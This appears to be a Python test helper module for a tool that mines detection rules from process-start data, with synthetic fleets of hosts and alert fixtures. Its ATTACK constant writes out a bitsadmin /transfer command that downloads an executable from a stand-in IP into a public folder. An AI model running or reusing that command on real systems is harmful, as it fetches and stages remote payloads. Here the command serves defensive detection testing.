"""Lawful use and deeds for the tests of mining: a fleet of hosts that do little, and the article's command."""

from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from typing import Any

import polars as pl

from longtail.detections.generalise import Deed, clusters
from longtail.detections.legitimate import STARTS, Fleet, fleet
from longtail.detections.mining import Mined, mined
from longtail.detections.predicates import EVENT, conjunction, lowered
from longtail.detections.sigma import parsed
from longtail.detections.synthesis import Found, synthesised

S32 = "C:\\Windows\\System32\\"
NOW = datetime(2026, 3, 4, 5, tzinfo=UTC)
ATTACK = "bitsadmin  /transfer n http://198.51.100.7/Svn.exe c:\\Users\\Public\\Svn.exe"


def start(number: int, line: str, image: str = S32 + "bitsadmin.exe", **changes: Any) -> dict[str, Any]:
    day = NOW.date() + timedelta(days=changes.pop("days", 0))
    told = {"tenant": "t", "host": f"h{number}", "account": "a", "account_class": "human", "day": day, "image": image,
            "command_line": line, "parent_image": "C:\\a.exe", "parent_command_line": None, "runs": 1}  # fmt: skip
    return {**told, **changes}


def table(*rows: dict[str, Any]) -> pl.DataFrame:
    return pl.DataFrame(rows, schema=STARTS, orient="row")


def quiet(hosts: int = 400, tenants: int = 8) -> list[dict[str, Any]]:
    return [start(host, "svchost.exe -k a", S32 + "svchost.exe", days=day, tenant=f"t{host % tenants}")
            for host in range(hosts) for day in range(3)]  # fmt: skip


def deed(line: str, image: str = S32 + "bitsadmin.exe", **changes: Any) -> Deed:
    told = Deed(date(2026, 3, 4), "v", "attacked", "svc", "mssql", image, line, S32 + "cmd.exe", "1", 3, NOW)
    return replace(told, **changes)


def made(deeds: list[Deed], starts: list[dict[str, Any]]) -> tuple[list[Found], list[str], Fleet]:
    of_fleet = fleet(table(*starts), deeds)
    known = of_fleet.known | {"bitsadmin.exe", "certutil.exe", "whoami.exe", "taskkill.exe", "cmd.exe", "svchost.exe"}
    found, reasons = [], []
    for cluster in clusters(deeds, known):
        good, left = synthesised(cluster, of_fleet)
        found += good
        reasons += [each.reason for each in left]
    return found, reasons, of_fleet


def names(found: Found) -> list[str]:
    return [each.name for each in found.logic.predicates]


def fires(found: Found, line: str, image: str = S32 + "bitsadmin.exe") -> bool:
    event = pl.DataFrame([(image, line, None, None, None)], schema=EVENT, orient="row")
    return bool(conjunction(found.logic.predicates, lowered(event))[0])


def object_of(line: str, **changes: Any) -> dict[str, Any]:
    told = {
        "id": "1",
        "tenant": "v",
        "account": "svc",
        "account_class": "mssql",
        "host": "attacked",
        "severity": "high",
    }
    execution = {"time": "2026-03-04T05:00:00Z", "image": S32 + "bitsadmin.exe", "command_line": line,
                 "parent_image": S32 + "cmd.exe", "role": "anomaly"}  # fmt: skip
    return {**told, **changes, "executions": [execution]}


def mine(existing: str = "", hosts: int = 400) -> Mined:
    rules = parsed(existing, "existing").rules if existing else ()
    known = [start(host, "bitsadmin /list", days=1) for host in range(4)]
    return mined([object_of(ATTACK)], table(*quiet(hosts), *known), rules)
